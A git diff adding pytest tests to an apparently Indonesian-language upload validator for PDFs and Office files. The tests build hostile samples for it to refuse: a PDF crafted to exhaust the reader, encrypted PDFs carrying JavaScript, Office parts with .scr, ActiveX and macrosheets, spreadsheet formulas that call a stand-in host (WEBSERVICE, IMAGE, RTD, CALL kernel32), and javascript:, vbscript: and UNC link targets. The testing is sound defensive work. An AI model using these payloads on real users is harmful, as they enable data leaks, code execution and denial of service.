@@ -6,6 +6,7 @@ import io
 import struct
 import time
 import zipfile
+import zlib
 from pathlib import Path
 from typing import Any
 
@@ -242,6 +243,55 @@ def test_what_is_no_whole_document_is_refused(data: bytes) -> None:
     assert refusal(data)
 
 
+in_another_process = pdfs._beside
+
+
+@pytest.fixture(autouse=True)
+def _in_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Most PDFs here are harmless to whoever looks at them, and another process takes half a second to start."""
+    monkeypatch.setattr(pdfs, "_beside", pdfs.outcome_of)
+
+
+def test_a_pdf_is_looked_at_by_another_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert in_another_process(pdf()) == pdfs.FINE
+    assert in_another_process(pdf(change=javascript)) == pdfs.ACTS
+    monkeypatch.setattr(pdfs, "MOST_WAIT", 0.001)
+    assert in_another_process(pdf()) == pdfs.MUCH
+
+
+def test_a_pdf_made_to_be_long_to_read_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Its catalogue stands behind half a million objects of one stream, which the reader lists at one go."""
+    monkeypatch.setattr(pdfs, "MOST_SECONDS", 1)
+    monkeypatch.setattr(pdfs, "_beside", in_another_process)
+    started = time.monotonic()
+    assert pdfs.outcome_of(behind(10)) == pdfs.FINE
+    assert "bagian demi bagian" in broken_pdf(behind(500_000))
+    assert time.monotonic() - started < 15
+
+
+def behind(many: int) -> bytes:
+    objects = [(9, b"0")] * many + [
+        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
+        (2, b"<</Type/Pages/Count 1/Kids[3 0 R]>>"),
+        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
+    ]
+    places, at = [], 0
+    for number, text in objects:
+        places.append(b"%d %d " % (number, at))
+        at += len(text) + 1
+    head, body = b"".join(places), b" ".join(text for _n, text in objects)
+    packed = zlib.compress(head + body)
+    start = b"%PDF-1.5\n"
+    stream = b"10 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n"
+    stream = stream % (len(objects), len(head), len(packed)) + packed + b"\nendstream\nendobj\n"
+    found = len(start) + len(stream)
+    rows = [bytes(9)] + [bytes([2]) + (10).to_bytes(4, "big") + bytes(4)] * 3 + [bytes(9)] * 6
+    rows += [bytes([1]) + at.to_bytes(4, "big") + bytes(4) for at in (len(start), found)]
+    table = b"".join(rows)
+    index = b"11 0 obj\n<</Type/XRef/Size 12/W[1 4 4]/Root 1 0 R/Length %d>>stream\n" % len(table)
+    return start + stream + index + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % found
+
+
 def broken_pdf(data: bytes) -> str:
     with pytest.raises(ValidationError) as caught:
         pdfs.check_pdf(data)
@@ -362,6 +412,18 @@ ACTING = {
 }
 
 
+@pytest.mark.filterwarnings("ignore::DeprecationWarning")
+@pytest.mark.parametrize("way", ["RC4-40", "RC4-128"])
+def test_a_pdf_that_asks_for_no_password_is_looked_into(way: str) -> None:
+    """Encrypted with an empty password any program opens it."""
+
+    def change(writer: PdfWriter) -> None:
+        javascript(writer)
+        writer.encrypt("", owner_password="rahasia", algorithm=way)
+
+    assert "perintah" in broken_pdf(pdf(change=change))
+
+
 @pytest.mark.parametrize("change", ACTING.values(), ids=ACTING)
 def test_a_pdf_that_acts_is_refused(change: Any) -> None:
     data = pdf(change=change)
@@ -404,7 +466,96 @@ def test_a_pdf_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
         office("xlsx", xl__connections_dot_xml=b"<connections/>"),
         office("docx", word__media__start_dot_hta=b"<html/>"),
         office("docx", word__media__start_dot_LNK=b"L"),
+        office("docx", word__media__start_dot_scr=b"L"),
     ],
 )  # fmt: skip
 def test_what_is_unfolded_or_fetched_when_opened_is_refused(data: bytes) -> None:
     assert "makro" in refusal(data)
+
+
+SHEET = (
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</worksheet>'
+)
+
+
+def here(kind: str, target: str = "x.xml") -> bytes:
+    return relations(kind, target).replace(b' TargetMode="External"', b"")
+
+
+@pytest.mark.parametrize(
+    "kind",
+    [
+        "control",
+        "webextensiontaskpanes",
+        "aFChunk/",
+        "AFCHUNK",
+        "aFChunk ",
+        "attachedToolbars",
+        "xlMacrosheet",
+    ],
+)
+def test_a_part_of_an_unknown_kind_is_refused(kind: str) -> None:
+    assert "makro" in refusal(office("docx", word___rels__a_dot_rels=here(kind)))
+
+
+@pytest.mark.parametrize("kind", ["activeX+xml", "webextensiontaskpanes+xml"])
+def test_controls_and_add_ins_are_refused_by_what_they_say_they_are(kind: str) -> None:
+    types = zipfile.ZipFile(io.BytesIO(office("docx"))).read("[Content_Types].xml")
+    told = types.replace(
+        b"</Types>", f'<Override ContentType="application/vnd.ms-office.{kind}"/></Types>'.encode()
+    )
+    assert "makro" in refusal(office("docx", **{"[Content_Types].xml": told}))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '<f>WEBSERVICE("http://e.test/"&amp;A2)</f>',
+        '<f>_xlfn.IMAGE("http://e.test/a.png")</f>',
+        '<f>1+_xlfn.&#87;ebservice ("http://e.test/")</f>',
+        '<f>RTD("prog.id",,"a")</f>',
+        '<definedName name="a">CALL("kernel32","x","y")</definedName>',
+        '<dataValidation><formula1>WEBSERVICE("http://e.test/")</formula1></dataValidation>',
+    ],
+)
+def test_formulas_that_fetch_are_refused(formula: str) -> None:
+    data = office("xlsx", xl__worksheets__sheet1_dot_xml=(SHEET % formula).encode())
+    assert "tempat lain" in refusal(data)
+
+
+def test_other_formulas_and_words_are_taken() -> None:
+    told = '<f>SUM(A1:A9)+Image2</f><c t="inlineStr"><is><t>WEBSERVICE("x") IMAGE(2)</t></is></c>'
+    documents.check_office(
+        io.BytesIO(office("xlsx", xl__worksheets__sheet1_dot_xml=(SHEET % told).encode()))
+    )
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_query_is_refused(encoding: str) -> None:
+    told = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
+    assert "tempat lain" in refusal(office("xlsx", customXml__item1_dot_xml=told.encode(encoding)))
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "javascript:alert(1)",
+        "file://///e.test/share/x.exe",
+        "\\\\e.test\\x",
+        "%6Aavascript:x",
+        " vbscript:x",
+        "ms-word:ofe|u|http://e.test/x",
+    ],
+)
+def test_a_link_that_leads_to_no_page_is_refused(target: str) -> None:
+    assert "tempat lain" in refusal(
+        office("docx", word___rels__a_dot_rels=relations("hyperlink", target))
+    )
+
+
+@pytest.mark.parametrize(
+    "target", ["https://example.org/?a=b:c", "mailto:a@b.id", "surat.docx", "#Bab1"]
+)
+def test_a_link_to_a_page_is_taken(target: str) -> None:
+    data = office("docx", word___rels__a_dot_rels=relations("hyperlink", target))
+    assert documents.check_office(io.BytesIO(data))[0] == ".docx"
